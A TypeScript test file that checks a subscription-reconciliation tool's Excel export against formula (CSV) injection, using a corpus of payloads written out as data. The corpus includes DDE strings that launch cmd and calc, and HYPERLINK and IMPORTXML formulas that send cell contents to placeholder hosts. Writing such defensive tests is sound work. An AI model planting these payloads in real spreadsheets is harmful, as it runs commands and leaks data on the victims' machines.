/**
 * Formula injection (spec §5, issue 4): text that looks like a formula — starting with = + - @,
 * also after spaces, tabs or line breaks — is always written as text, never evaluated. Sheet
 * names made from account names with quotes still give working formulas.
 */
import { promises as fs } from "fs";
import * as os from "os";
import * as path from "path";
import ExcelJS from "exceljs";
import { reconcileImports } from "../src/cli/run";
import { Cell } from "../src/domain/cells";
import { ImportFile } from "../src/domain/importer";
import { buildWorkbook } from "../src/xlsx/writer";
import { Values, recalculate } from "./support/libreoffice";
import { checkWorkbook, summaryOrder } from "./support/workbook-check";

export const INJECTION_CORPUS: readonly string[] = [
  "=1+1",
  "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "+cmd|' /C notepad'!A0",
  "-1+1",
  "-2",
  "@SUM(1,1)",
  " =1+1",
  "  +1",
  "\t=1+1",
  "\n=1+1",
  "\r\n@SUM(A1)",
  "=",
  "'=1+1",
  "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
  "=DDE(\"cmd\";\"/C calc\";\"x\")",
];

function exportWith(payloads: readonly string[], account: string): ImportFile[] {
  const header: Cell[] = ["Subscription ID", "Subscription", "Quantity", "Status", "Reseller", "Friendly name"];
  const rows: Cell[][] = payloads.map((p, i) => [p, i % 2 ? p : "Office 365 E3", i % 3 ? "5" : p, i % 4 ? "Active" : p, p, p]);
  return [
    { path: `from/${account}/Contoso.csv`, role: "from", account, kind: "subscriptions", grid: [header, ...rows] },
    { path: `from/${account}/=1+1.csv`, role: "from", account, kind: "subscriptions", grid: [header, ["x1", "=SUM(1)", "1", "Active", "", ""]] },
    { path: "to/Contoso.csv", role: "to", account: "New", kind: "subscriptions", grid: [header, ["n1", "Office 365 E3", "5", "Active", "", ""]] },
    { path: "offer-map.csv", role: "from", account: "", kind: "offerMap", grid: [["Old offer", "New offer"], ["=1+1", "@SUM(1)"]] },
  ];
}

describe("formula injection", () => {
  let dir: string;
  beforeAll(async () => {
    dir = await fs.mkdtemp(path.join(os.tmpdir(), "csp-injection-"));
  });

  test("every text cell of the written workbook stays text; formulas are only the product's", async () => {
    const out = reconcileImports(exportWith(INJECTION_CORPUS, "FR"), { asOf: "2026-11-24", fixedAsOf: true });
    const file = path.join(dir, "injection.xlsx");
    await buildWorkbook(out.inputSheets, out.plan).xlsx.writeFile(file);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const texts = new Set<string>();
    const formulas: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          const v = cell.value;
          if (typeof v === "string") texts.add(v);
          if (v && typeof v === "object" && "formula" in v) formulas.push(String(v.formula));
        }),
      ),
    );
    expect(formulas.length).toBeGreaterThan(50);
    const bodies = INJECTION_CORPUS.map((p) => p.trim().replace(/^[=+\-@]/, ""));
    const evil = formulas.filter((f) => bodies.includes(f) || /cmd\||example\.com|IMPORTXML|DDE\(|SUM\(1/.test(f));
    expect(evil).toEqual([]);
    // Every payload is in the workbook as the text it was. (XML reads CR LF inside text as LF:
    // exceljs does not escape CR as _x000D_, so a carriage return in a cell comes back as LF.)
    for (const p of INJECTION_CORPUS) expect(texts.has(p.replace(/\r\n/g, "\n"))).toBe(true);
  });

  test("account names with quotes make sheet names that formulas still reach (recalculated in LibreOffice)", async () => {
    const out = reconcileImports(exportWith(["a", "b", "c"], `O'Brien "EU" & co`), { asOf: "2026-11-24", fixedAsOf: true });
    const file = path.join(dir, "quotes.xlsx");
    await buildWorkbook(out.inputSheets, out.plan).xlsx.writeFile(file);
    const values = await Values.read(await recalculate(file, path.join(dir, "lo")));
    expect(checkWorkbook(values, out.plan, out.result, summaryOrder(out.result))).toEqual([]);
  });
});
